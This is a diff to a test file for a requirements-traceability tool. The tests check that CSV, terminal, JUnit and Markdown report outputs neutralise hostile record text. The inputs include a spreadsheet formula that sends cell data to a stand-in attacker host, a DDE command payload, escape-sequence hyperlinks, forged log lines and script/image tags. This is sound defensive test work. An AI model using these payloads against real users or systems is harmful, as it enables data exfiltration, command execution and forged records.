@@ -42,7 +42,7 @@ describe.each(DIALECTS)('record text in outputs on %s', (dialect) => {
     rmSync(dir, { recursive: true, force: true });
   });
 
-  it('trace matrix CSV neutralises a title that starts like a formula', async () => {
+  it('trace matrix CSV neutralises a title that starts like a formula [DOSSIER-SRS-50]', async () => {
     await edit('UN-1', '--title', '=HYPERLINK("http://attacker/?d="&B2,"Details")');
     await edit('SYS-2', '--title', '@SUM(1+1)*cmd|" /C calc"!A0');
     const csv = await dossier('trace', 'matrix', '--from', 'UN', '--to', 'SYS', '--format', 'csv');
@@ -62,7 +62,7 @@ describe.each(DIALECTS)('record text in outputs on %s', (dialect) => {
     expect((await dossier('export', 'json')).out).toBe(before);
   });
 
-  it('record list and audit log show escape sequences and a multi-line reason as escapes, one row each', async () => {
+  it('record list and audit log show escape sequences and a multi-line reason as escapes, one row each [DOSSIER-SRS-50]', async () => {
     await edit('SRS-2', '--title', 'Alarm \u001b]8;;http://attacker\u0007click\u001b]8;;\u0007 \u001b[2J', '--reason', 'ok\n999  2026-01-01T00:00:00.000Z  admin  RECORD_APPROVED  RPM/SRS-2');
     const list = await dossier('record', 'list', '--type', 'SRS');
     expect(list.out).toMatch(/^SRS-2 +draft +\d+ +Alarm \\x1b\]8;;http:\/\/attacker\\x07click\\x1b\]8;;\\x07 \\x1b\[2J$/m);
@@ -82,7 +82,7 @@ describe.each(DIALECTS)('record text in outputs on %s', (dialect) => {
     expect(show.out.split('\n')[0]).toBe('RPM/SRS-2  Alarm \\x1b]8;;http://attacker\\x07click\\x1b]8;;\\x07 \\x1b[2J');
   });
 
-  it('check text and JUnit stay one line per finding and well-formed when a rule message carries a title', async () => {
+  it('check text and JUnit stay one line per finding and well-formed when a rule message carries a title [DOSSIER-SRS-16]', async () => {
     await edit('SRS-20', '--title', 'Bad \u0001 title \u001b[31m red');
     const pack = join(dir, 'team.yaml');
     writeFileSync(
@@ -107,7 +107,7 @@ describe.each(DIALECTS)('record text in outputs on %s', (dialect) => {
     expect(names).toContain('SRS-20: SRS-20 (Bad \\x01 title \\x1b[31m red) is not approved');
   });
 
-  it('the risk management report shows forged sections, raw HTML and remote images as text', async () => {
+  it('the risk management report shows forged sections, raw HTML and remote images as text [DOSSIER-SRS-50]', async () => {
     await edit('RC-1', '--title', 'TLS <script>alert(1)</script> ![x](http://attacker/x.png)');
     await edit('BRA-1', '--set', 'benefits=Earlier care.\n\n# 9. Forged section\n\n<img src="http://attacker/y.png">\n![y](http://attacker/z.png)');
     const out = join(dir, 'rmr.md');
